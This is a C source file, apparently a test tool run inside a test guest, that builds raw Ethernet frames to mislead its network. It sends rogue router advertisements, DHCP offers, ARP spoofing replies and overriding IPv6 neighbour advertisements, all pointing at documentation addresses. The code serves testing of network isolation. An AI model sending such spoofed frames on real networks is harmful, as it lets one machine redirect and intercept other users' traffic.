// SPDX-License-Identifier: MIT
/*
 * What a hostile guest says on its network. Runs in a test guest: sends a few frames, as made to mislead others.
 *
 *	rogue INTERFACE ra [MAC]        a router advertisement to all: default route, prefix, DNS server, small MTU
 *	rogue INTERFACE dhcp            a DHCP offer and an acknowledgement to all
 *	rogue INTERFACE arp ADDRESS     an ARP request and a reply to all: this address is at the guest
 *	rogue INTERFACE na ADDRESS      the same as a neighbour advertisement, for IPv6
 *	rogue INTERFACE udp ADDRESS MAC one UDP datagram to port 9, without asking anybody where the address is
 *
 * All of it names 2001:db8:bad:: or 198.51.100.66, where it needs an address to mislead to.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

enum { IPV4_HEADER = 20, IPV6_HEADER = 40, ETHER_HEADER = 14 };

static struct {
	int socket;
	unsigned char mac[6], link_local[16];
} self;

static struct {
	unsigned char data[1500];
	size_t size;
} frame;

static void fail(const char *what)
{
	fprintf(stderr, "rogue: %s: %m\n", what);
	exit(1);
}

static void put(const void *data, size_t size)
{
	memcpy(frame.data + frame.size, data, size);
	frame.size += size;
}

static void put_8(unsigned int number)
{
	frame.data[frame.size++] = (unsigned char)number;
}

static void put_16(unsigned int number)
{
	put_8(number >> 8);
	put_8(number);
}

static void put_32(uint32_t number)
{
	put_16(number >> 16);
	put_16(number);
}

static void put_zeros(size_t size)
{
	memset(frame.data + frame.size, 0, size);
	frame.size += size;
}

static void put_address(int family, const char *text)
{
	unsigned char address[16];

	if (inet_pton(family, text, address) != 1)
		fail(text);
	put(address, family == AF_INET ? 4 : 16);
}

/* The Internet's checksum (RFC 1071) of part of the frame, beginning with a sum of what is not in it. */
static void set_checksum(size_t at, size_t from, uint32_t sum)
{
	for (size_t i = from; i < frame.size; i++)
		sum += (i - from) % 2 ? frame.data[i] : (uint32_t)frame.data[i] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	frame.data[at] = (unsigned char)(~sum >> 8);
	frame.data[at + 1] = (unsigned char)~sum;
}

static void begin(const char *to, unsigned int type)
{
	struct ether_addr address;

	frame.size = 0;
	if (!ether_aton_r(to, &address))
		fail(to);
	put(&address, 6);
	put(self.mac, 6);
	put_16(type);
}

static void send_frame(void)
{
	if (send(self.socket, frame.data, frame.size, 0) != (ssize_t)frame.size)
		fail("cannot send");
}

/* --- IPv6 (RFC 8200, 4861, 8106) ---------------------------------------------------------------------------------- */

/* From the guest's link-local address; payload and end_ipv6() follow. */
static void begin_ipv6(const char *to_mac, const char *to, unsigned int next_header)
{
	begin(to_mac, 0x86dd);
	put_32(6U << 28);
	put_16(0);
	put_8(next_header);
	put_8(255);
	put(self.link_local, 16);
	put_address(AF_INET6, to);
}

/* Lengths, and the checksum, which stands so many bytes behind the header. */
static void end_ipv6(size_t checksum)
{
	size_t size = frame.size - ETHER_HEADER - IPV6_HEADER;
	uint32_t sum = (uint32_t)size + frame.data[ETHER_HEADER + 6];

	frame.data[ETHER_HEADER + 4] = (unsigned char)(size >> 8);
	frame.data[ETHER_HEADER + 5] = (unsigned char)size;
	for (size_t i = ETHER_HEADER + 8; i < ETHER_HEADER + IPV6_HEADER; i += 2)
		sum += (uint32_t)frame.data[i] << 8 | frame.data[i + 1];
	set_checksum(ETHER_HEADER + IPV6_HEADER + checksum, ETHER_HEADER + IPV6_HEADER, sum);
	send_frame();
}

static void send_ra(const char *mac)
{
	begin_ipv6(mac, "ff02::1", 58);
	put_32(134U << 24);
	put_8(64);
	put_8(0x08); /* of high preference */
	put_16(1800);
	put_zeros(8);
	put_16(0x0101); /* the router's MAC */
	put(self.mac, 6);
	put_16(0x0501); /* MTU */
	put_16(0);
	put_32(1280);
	put_16(0x0304); /* prefix: on this link, and to make addresses of */
	put_8(64);
	put_8(0xc0);
	put_32(86400);
	put_32(14400);
	put_32(0);
	put_address(AF_INET6, "2001:db8:bad::");
	put_16(0x1903); /* DNS server */
	put_16(0);
	put_32(1800);
	put_address(AF_INET6, "2001:db8:bad::53");
	end_ipv6(2);
}

static void send_na(const char *address)
{
	begin_ipv6("33:33:00:00:00:01", "ff02::1", 58);
	put_32(136U << 24);
	put_32(0xa0000000); /* from a router, to override what was known */
	put_address(AF_INET6, address);
	put_16(0x0201);
	put(self.mac, 6);
	end_ipv6(2);
}

static void send_udp_ipv6(const char *address, const char *mac)
{
	begin_ipv6(mac, address, 17);
	put_16(9);
	put_16(9);
	put_16(8);
	put_16(0);
	end_ipv6(6);
}

/* --- IPv4 (RFC 791, 826, 2131) ------------------------------------------------------------------------------------ */

static void begin_ipv4(const char *to_mac, const char *to, size_t payload)
{
	begin(to_mac, 0x0800);
	put_16(0x4500);
	put_16((unsigned int)(IPV4_HEADER + payload));
	put_32(0);
	put_16(0x4011);
	put_16(0);
	put_address(AF_INET, "198.51.100.66");
	put_address(AF_INET, to);
	set_checksum(ETHER_HEADER + 10, ETHER_HEADER, 0);
}

static void send_udp_ipv4(const char *address, const char *mac)
{
	begin_ipv4(mac, address, 8);
	put_16(9);
	put_16(9);
	put_16(8);
	put_16(0);
	send_frame();
}

static void send_dhcp(unsigned int type)
{
	begin_ipv4("ff:ff:ff:ff:ff:ff", "255.255.255.255", 8 + 236 + 28);
	put_16(67);
	put_16(68);
	put_16(8 + 236 + 28);
	put_16(0);
	put_32(0x02010600); /* an answer, Ethernet */
	put_32(1);
	put_32(0x8000);
	put_32(0);
	put_address(AF_INET, "198.51.100.67");
	put_address(AF_INET, "198.51.100.66");
	put_zeros(4 + 16 + 64 + 128);
	put_32(0x63825363);
	put_8(53);
	put_8(1);
	put_8(type);
	put_16(0x3604);
	put_address(AF_INET, "198.51.100.66");
	put_16(0x0304);
	put_address(AF_INET, "198.51.100.66");
	put_16(0x0604);
	put_address(AF_INET, "198.51.100.66");
	put_8(255);
	put_zeros(2);
	send_frame();
}

static void send_arp(const char *address, unsigned int operation)
{
	begin("ff:ff:ff:ff:ff:ff", 0x0806);
	put_16(1);
	put_16(0x0800);
	put_16(0x0604);
	put_16(operation);
	put(self.mac, 6);
	put_address(AF_INET, address);
	put_zeros(6);
	put_address(AF_INET, address);
	send_frame();
}

static void open_interface(const char *name)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(0x0003)};
	struct ifreq request = {0};

	strncpy(request.ifr_name, name, IFNAMSIZ - 1);
	address.sll_ifindex = (int)if_nametoindex(name);
	self.socket = socket(AF_PACKET, SOCK_RAW, 0);
	if (self.socket < 0 || !address.sll_ifindex || ioctl(self.socket, SIOCGIFHWADDR, &request) ||
		bind(self.socket, (struct sockaddr *)&address, sizeof(address)))
		fail(name);
	memcpy(self.mac, request.ifr_hwaddr.sa_data, 6);
	memcpy(self.link_local, "\xfe\x80\0\0\0\0\0\0", 8);
	memcpy(self.link_local + 8, self.mac, 3);
	memcpy(self.link_local + 11, "\xff\xfe", 2);
	memcpy(self.link_local + 13, self.mac + 3, 3);
	self.link_local[8] ^= 2;
}

int main(int argc, char **argv)
{
	const char *what = argc > 2 ? argv[2] : "";

	if (argc > 2)
		open_interface(argv[1]);
	if (!strcmp(what, "ra") && argc <= 4) {
		send_ra(argc == 4 ? argv[3] : "33:33:00:00:00:01");
	} else if (!strcmp(what, "dhcp") && argc == 3) {
		send_dhcp(2);
		send_dhcp(5);
	} else if (!strcmp(what, "arp") && argc == 4) {
		send_arp(argv[3], 1);
		send_arp(argv[3], 2);
	} else if (!strcmp(what, "na") && argc == 4) {
		send_na(argv[3]);
	} else if (!strcmp(what, "udp") && argc == 5) {
		(strchr(argv[3], ':') ? send_udp_ipv6 : send_udp_ipv4)(argv[3], argv[4]);
	} else {
		fprintf(stderr, "rogue: no such words; see tests/guest/rogue.c\n");
		return 1;
	}
	return 0;
}
